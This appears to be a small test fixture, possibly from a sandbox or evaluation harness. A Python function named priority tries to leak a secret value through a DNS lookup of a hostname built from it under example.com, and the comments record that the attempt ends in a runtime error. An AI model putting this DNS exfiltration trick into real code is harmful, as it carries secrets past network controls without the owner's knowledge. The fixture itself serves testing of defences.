# Tries: to carry a secret out in a name that is looked up
# Ends in: runtime_error
def priority(x):
    import socket
    socket.getaddrinfo(f"{MARK}.example.com", 80)
